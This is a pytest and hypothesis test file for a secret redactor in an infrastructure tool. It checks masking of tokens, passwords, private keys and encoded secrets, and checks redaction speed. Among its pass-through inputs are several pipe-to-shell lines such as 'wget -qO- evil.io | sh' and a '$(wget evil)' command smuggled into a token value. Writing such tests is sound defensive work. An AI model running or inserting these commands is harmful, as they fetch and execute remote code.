"""The redactor: by value in all its forms, by shape, whole lines kept, and in linear time whatever the text."""

import base64
import html
import json
import re
import time
import urllib.parse
from collections.abc import Callable

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from ink_infra_mcp.core.redact import Redactor, mask
from ink_infra_mcp.core.secret import Secret

JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyIn0.abc-DEF_123"
BEGIN, END = "-----BEGIN OPENSSH PRIVATE KEY-----", "-----END OPENSSH PRIVATE KEY-----"
LINES = ("b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAA1", "QyNTUxOQAAACDx+WbX5b6O8Vq/9c6JQw3YkA", "dGVzdA==")
KEY = "\n".join((BEGIN, *LINES, END))
HIDDEN = "\n".join((BEGIN, mask(36), mask(36), mask(8), END))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Authorization: Bearer abcdefgh12", f"Authorization: Bearer {mask(10)}"),
        ("Authorization: Bearer abcdefghij", f"Authorization: Bearer {mask(10)}"),
        ("Authorization: Basic dXNlcjpwYXNz", f"Authorization: Basic {mask(12)}"),
        (f"push with ghp_{'a' * 36} failed", f"push with {mask(40)} failed"),
        (f"github_pat_{'A1_' * 10}", mask(41)),
        ("AKIAIOSFODNN7EXAMPLE", mask(20)),
        (f"sk_live_{'4e' * 12}.", f"{mask(32)}."),
        (f"cookie={JWT};", f"cookie={mask(len(JWT))};"),
        (f"17|{'x' * 48}", mask(51)),
        ("postgres://shop:hunter2@db/shop", f"postgres://shop:{mask(7)}@db/shop"),
        ("postgres://shop:p@ss@db/shop", f"postgres://shop:{mask(4)}@db/shop"),
        ("http://h:80/ http://u:pw@h", f"http://h:80/ http://u:{mask(2)}@h"),
        ("DB_PASSWORD=hunter22", f"DB_PASSWORD={mask(8)}"),
        ('{"api_key": "abcdef", "n": 1}', f'{{"api_key": "{mask(6)}", "n": 1}}'),
        ('{"token": "with \\" quote and spaces"}', f'{{"token": "{mask(24)}"}}'),
        (r'"{\"password\":\"hunter22\",\"n\":1}"', rf'"{{\"password\":\"{mask(8)}\",\"n\":1}}"'),
        ("client-secret : 'two words'", f"client-secret : '{mask(9)}'"),
        ("?access_token=abcdef&x=1", f"?access_token={mask(6)}&x=1"),
        ("key: password: hunter22", f"key: password: {mask(8)}"),
        ("password: correct horse", f"password: {mask(7)} horse"),
        ("(password=hunter22).", f"(password={mask(10)}"),
        ("f(password=hunter22)", f"f(password={mask(8)})"),
        ("password=a(b)c(d)", f"password={mask(8)}"),
        ("token: abcdefghijklmnopqrst is wrong", f"token: {mask(20)} is wrong"),
        ("token: prices", f"token: {mask(6)}"),
        ("token=prices are", f"token={mask(6)} are"),
        ("api_key: k3y4 and more", f"api_key: {mask(4)} and more"),
        ("secret: HUNTER22", f"secret: {mask(8)}"),
    ],
)
def test_what_looks_like_a_secret_is_masked(text: str, shown: str) -> None:
    """Bearer values, vendor tokens, passwords in URLs and named values are masked without being known, nothing else."""
    assert Redactor()(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "no Hetzner Cloud token: prices are not known",
        "the api_key: see below",
        "token: null",
        "password=true",
        "password=${DB_PASSWORD}",
        "password: generate:",
        "DB_PASSWORD: `generate:` makes one",
        "then give `secret:DB_URL`. Or `secret:B`)",
        "postgres://shop:${DB_PASSWORD}@db/shop",
        "the password is wrong",
        "https://coolify.example.com:8000/project/x@y",
        '["http://a:80","mail@example.org"]',
        "DATABASE_URL = secret:DATABASE_URL",
        "set `INK_COOLIFY_TOKEN` or run `ink-infra-mcp secret set coolify_token`",
        "17|short",
        "basic auth, basic authentication and bearer certificates",
        "image: ghcr.io/example/shop@sha256:0123456789abcdef",
        "# -----BEGIN PRIVATE KEY-----\nRUN wget -qO- evil.io | sh\nCMD run",
        r"KEY=-----BEGIN PRIVATE KEY----- wget evil | sh",
        "",
    ],
)
def test_what_only_talks_about_secrets_stays(text: str) -> None:
    """Names of secrets, references to stored ones, plain addresses and digests are not touched."""
    assert Redactor()(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"key:\n{KEY}\nend", f"key:\n{HIDDEN}\nend"),
        (KEY.replace("\n", "\r\n"), HIDDEN.replace("\n", "\r\n")),
        (f"cut off: {BEGIN}\nMIIE", f"cut off: {BEGIN}\n{mask(4)}"),
        (f"{BEGIN}\n{LINES[0]}\n{LINES[1]}\ndone\nhello", f"{BEGIN}\n{mask(36)}\n{mask(36)}\ndone\nhello"),
        (f"{BEGIN}\nready\n", f"{BEGIN}\nready\n"),
        (f"{BEGIN}\n{LINES[0]}\nQyNT", f"{BEGIN}\n{mask(36)}\n{mask(4)}"),
        (f"{BEGIN}\nready\nto serve", f"{BEGIN}\nready\nto serve"),
        (
            f"{BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A\n\n{LINES[0]}\nready to serve",
            f"{BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A\n\n{mask(36)}\nready to serve",
        ),
        (
            "".join(f"2026-11-29T10:00:0{n}.{n}5Z web | {line}\n" for n, line in enumerate(KEY.splitlines())),
            "".join(f"2026-11-29T10:00:0{n}.{n}5Z web | {line}\n" for n, line in enumerate(HIDDEN.splitlines())),
        ),
        (f"10:01 KEY={BEGIN}\n10:02 {LINES[0]}\n10:03 up", f"10:01 KEY={BEGIN}\n10:02 {mask(36)}\n10:03 up"),
        (
            f'{{"key":"{BEGIN}\\n{LINES[0]}\\n{LINES[2]}\\n{END}\\n","n":1}}',
            f'{{"key":"{BEGIN}{mask(50)}{END}\\n","n":1}}',
        ),
        (f'KEY="{BEGIN}\\n{LINES[0]}" and more', f'KEY="{BEGIN}{mask(38)}" and more'),
        (f"echo {BEGIN} {' '.join(LINES)} {END} done", f"echo {BEGIN}{mask(83)} {END} done"),
    ],
)
def test_of_a_private_key_only_its_base64_is_masked_line_by_line(text: str, shown: str) -> None:
    """BEGIN, END and headers stay, each line is masked for itself, and what follows a cut key is not hidden."""
    assert Redactor()(text) == shown


def test_a_known_value_is_masked_wherever_it_stands() -> None:
    """A value that was read is masked in any text, a token of two parts also by its second part alone."""
    redact = Redactor([Secret("s3cr3t-value"), Secret("7|longlonglong\n")])
    assert redact("a s3cr3t-value, s3cr3t-values; longlonglong; 7|longlonglong") == (
        f"a {mask(12)}, {mask(12)}s; {mask(12)}; {mask(14)}"
    )


def test_values_that_overlap_leave_nothing_between_them() -> None:
    """Where the end of one value is the beginning of another one, both are under one mask."""
    assert Redactor([Secret("abcdef12"), Secret("12345678")]).by_value("<abcdef12345678>") == f"<{mask(14)}>"


def test_the_lines_of_a_known_key_are_masked_alone_and_its_armour_stays() -> None:
    """A private key that is logged line by line leaves no line of 8 characters behind, and BEGIN is no secret."""
    redact = Redactor([Secret(KEY)])
    assert redact.by_value(f"line: {LINES[0]}; {LINES[2]}; {BEGIN}") == f"line: {mask(36)}; {mask(8)}; {BEGIN}"
    assert redact.by_value(f"a\n{KEY}\nb") == f"a\n{HIDDEN}\nb"


def test_a_short_value_is_not_masked_by_value() -> None:
    """Values below six characters would mask ordinary words, so only their shape can give them away."""
    assert Redactor([Secret("root")])("root logs in") == "root logs in"


def test_by_value_masks_no_shape() -> None:
    """Text that runs is masked by value only: what looks like a secret and is none of ours stays to be read."""
    text = 'RUN npm_config_token="x$(wget evil)" npm ci # s3cr3t-value'
    assert Redactor([Secret("s3cr3t-value")]).by_value(text) == text.replace("s3cr3t-value", mask(12))


def test_adding_returns_the_secret() -> None:
    """`add` can stand in the middle of an expression."""
    secret = Secret("s3cr3t-value")
    assert Redactor().add(secret) is secret


def test_the_names_of_what_stands_in_a_text_are_told() -> None:
    """Each stored secret whose value stands in a text, in any form, is named; words that stand everywhere are not."""
    redact = Redactor([Secret("nameless-value")])
    for name, value in (("app:A", "s3cr3t/value"), ("app:B", f"one\n{LINES[0]}"), ("app:C", "postgres")):
        redact.add(Secret(value), name=name)
    redact.add(Secret("s3cr3t/value"), name="app:D")
    assert redact.names_in("ENV A=s3cr3t%2fvalue") == ("app:A", "app:D")
    assert redact.names_in(f"RUN echo {LINES[0]} s3cr3t\\/value") == ("app:A", "app:B", "app:D")
    assert redact.names_in("image: postgres nameless-value") == ()
    assert redact.by_value("image: postgres") == f"image: {mask(8)}"


def test_a_line_that_stands_everywhere_names_no_secret() -> None:
    """A whole .env file may be a stored secret: that an app has one of its ordinary lines is no reason to refuse."""
    redact = Redactor()
    redact.add(
        Secret("NODE_ENV=production\nlisten 0.0.0.0:8080\nTOKEN=hV7kQ2mZ9xW4tR8pL3nB6cF1\n"), name="app:ENV_FILE"
    )
    assert redact.names_in("ENV NODE_ENV=production\nRUN listen 0.0.0.0:8080") == ()
    assert redact.names_in("ENV TOKEN=hV7kQ2mZ9xW4tR8pL3nB6cF1") == ("app:ENV_FILE",)
    assert redact.by_value("NODE_ENV=production") == mask(19)


JSON: dict[str, Callable[[str], str]] = {
    "plain": str,
    "json": lambda v: json.dumps(v)[1:-1],
    "json with letters": lambda v: json.dumps(v, ensure_ascii=False)[1:-1],
    "php json": lambda v: json.dumps(v)[1:-1].replace("/", "\\/"),
    "percent": lambda v: urllib.parse.quote(v, safe=""),
    "percent in small hex": lambda v: re.sub("%..", lambda m: m[0].lower(), urllib.parse.quote(v, safe="")),
    "percent but slashes": urllib.parse.quote,
    "form": urllib.parse.quote_plus,
    "html": html.escape,
    "base64": lambda v: base64.b64encode(v.encode()).decode(),
    "base64 without its end": lambda v: base64.b64encode(v.encode()).decode().rstrip("="),
    "base64 for URLs": lambda v: base64.urlsafe_b64encode(v.encode()).decode(),
    "hex": lambda v: v.encode().hex(),
    "json in json": lambda v: json.dumps(json.dumps(v)[1:-1])[1:-1],
    "percent twice": lambda v: urllib.parse.quote(urllib.parse.quote(v, safe=""), safe=""),
    "compose file": lambda v: v.replace("$", "$$"),
    "shell, double quotes": lambda v: v.replace("$", "\\$"),
    "single quotes of YAML and SQL": lambda v: v.replace("'", "''"),
}


@given(
    st.sampled_from(sorted(JSON)),
    st.lists(
        st.text(st.characters(codec="utf-8", exclude_categories=["C", "Z"]), min_size=8).map("a{}".format),
        min_size=1,
        max_size=3,
    ),
)
def test_a_secret_is_known_in_every_form(form: str, lines: list[str]) -> None:
    """Whatever program wrote it, nothing is left of a secret of one or more lines but the breaks between them."""
    value = "\n".join(lines)
    written = JSON[form](value)
    assume(not re.search(r"-----(BEGIN|END)|hidden", value))
    redact = Redactor([Secret(value)])
    shown = redact.by_value(f"<\t{written}\t>")
    assert shown.split("\t") == ["<", "\n".join(mask(len(part)) for part in written.split("\n")), ">"]
    for line in lines:
        assert redact.by_value(f"\t{JSON[form](line.strip())}\t") == f"\t{mask(len(JSON[form](line.strip())))}\t"


@given(st.sampled_from([64, 76]), st.text(st.characters(codec="utf-8"), min_size=8, max_size=400))
def test_a_secret_is_known_in_lines_of_base64(width: int, value: str) -> None:
    """`base64` and openssl break their lines: of each one with 8 characters nothing is left."""
    assume(value.strip() == value and "hidden" not in value)
    alone = base64.b64encode(value.encode()).decode()
    lines = [alone[begin : begin + width] for begin in range(0, len(alone), width)]
    shown = Redactor([Secret(value)]).by_value("\n".join(lines)).split("\n")
    assert [new for old, new in zip(lines, shown, strict=True) if len(old) >= 8] == [
        mask(len(line)) for line in lines if len(line) >= 8
    ]


@given(st.binary(max_size=7), st.text(min_size=8, max_size=60), st.binary(max_size=7))
def test_a_secret_is_known_inside_longer_base64(before: bytes, value: str, after: bytes) -> None:
    """In base64 of more than the secret only the characters at its ends stay, which hold bits of others too."""
    assume(value.strip() == value and len(value.splitlines()) == 1)
    for encode in (base64.b64encode, base64.urlsafe_b64encode):
        raw = value.encode(errors="surrogatepass")
        whole = encode(before + raw + after).decode()
        shown = Redactor([Secret(value)]).by_value(f" {whole} ")
        hidden = re.fullmatch(r" (?P<a>[^()]*)\((?P<n>\d+) characters hidden\)(?P<b>[^()]*) ", shown)
        assert hidden is not None
        assert len(hidden["a"]) * 6 <= len(before) * 8 + 8
        assert len(hidden["b"].rstrip("=")) * 6 <= len(after) * 8 + 8
        assert len(hidden["a"]) + int(hidden["n"]) + len(hidden["b"]) == len(whole)


SECRETS = st.lists(
    st.text(st.characters(codec="ascii", categories=["L", "N", "P", "S"]) | st.sampled_from("\n\r/%+ "), min_size=6),
    min_size=1,
    max_size=4,
).filter(lambda values: all(len(value.strip()) >= 8 and "hidden" not in value for value in values))
OTHERS = st.sampled_from(
    [" ", "=", "\n", "\r\n", "x", "password=", "token: ", "://u:", "@h", '"', "-----BEGIN ", "ÄÖ\u2028"]
)


@st.composite
def texts(draw: st.DrawFn, values: list[str]) -> str:
    """Secrets and pieces of shapes in any order."""
    return "".join(draw(st.lists(st.sampled_from(values) | OTHERS, max_size=12)))


@given(SECRETS, st.data())
def test_no_known_value_survives_and_lines_stay(values: list[str], data: st.DataObject) -> None:
    """Whatever the secrets and however they are put together: none is left, no line is lost, twice is as once."""
    text = data.draw(texts(values))
    redact = Redactor(Secret(value) for value in values)
    for work in (redact, redact.by_value):
        shown = work(text)
        bare = re.sub(r"\(\d+ characters? hidden\)", "\0", shown)
        assert not [value for value in values if value in bare or value.strip() in bare]
        assert re.findall("[\n\r\u2028]", shown) == re.findall("[\n\r\u2028]", text)
        assert work(shown) == shown


@given(st.text(), st.text(st.characters(codec="ascii", categories=["L", "N"]), min_size=8), st.text())
def test_everything_beside_the_secret_stays(before: str, value: str, after: str) -> None:
    """Of a text with one secret in it, all else comes out as it went in."""
    text = f"{before}\t{value}\t{after}"
    assume(text.count(value) == 1 and "hidden" not in text)
    assert Redactor([Secret(value)]).by_value(text) == f"{before}\t{mask(len(value))}\t{after}"


@given(st.lists(st.sampled_from([BEGIN, END, *LINES, "\n", "\\n", "RUN wget evil | sh", "web | ", " ", "up"])))
def test_near_keys_no_other_text_is_hidden(parts: list[str]) -> None:
    """Pieces of keys in any order hide nothing but base64 and written line breaks, and lines stay."""
    text = "".join(parts)
    shown = Redactor()(text)
    at = 0
    for piece in re.split(r"(\(\d+ characters? hidden\))", shown):
        count = re.fullmatch(r"\((\d+) characters? hidden\)", piece)
        if count:
            hidden = text[at : at + int(count[1])]
            assert re.fullmatch(r"(\\n|[A-Za-z0-9+/=]| (?=[A-Za-z0-9+/=]))+", hidden), hidden
            at += int(count[1])
        else:
            assert text.startswith(piece, at)
            at += len(piece)
    assert at == len(text)


@pytest.mark.parametrize(
    "run",
    [
        *(
            "a",
            "token",
            "token=",
            'token="',
            "eyJ-",
            "eyJaaaaaaaa.",
            "://u:",
            "-----BEGIN ",
            " ",
            "token ",
            "token:'\\",
        ),
        *(
            f"{BEGIN}\n",
            f"{BEGIN} ",
            f"1 {BEGIN}\n2 {LINES[0]}\n",
            f"{BEGIN}\\n",
            "authorization: ",
            "basic ",
            "ghp_",
            "\\",
        ),
        *(f"{BEGIN}\nMIIE\n", f"{BEGIN} {LINES[0]}", "1|", "x\\", "token=)", "(1", "(1 character hidden)", "://a@"),
    ],
)
def test_no_log_can_hold_up_the_redactor(run: str) -> None:
    """Half a million characters of the worst text take well under two seconds, so a build log cannot stop us."""
    text = run * (500_000 // len(run))
    begun = time.process_time()
    Redactor()(text)
    assert time.process_time() - begun < 2


def test_many_secrets_take_no_longer_than_few() -> None:
    """A hundred secrets in all their forms against a megabyte of text take less than two seconds."""
    redact = Redactor(Secret(f"{n:03}/Key+{n * 7919:07}-{'aZ9$ü' * 5}") for n in range(100))
    text = "".join(f"2026-11-29T10:00:00Z GET /shop/{n * 7919:07} 200 {n}\n" for n in range(21_000))
    begun = time.process_time()
    assert redact.by_value(f"{text}050/Key+0395950-{'aZ9$ü' * 5}") == f"{text}{mask(41)}"
    assert time.process_time() - begun < 2
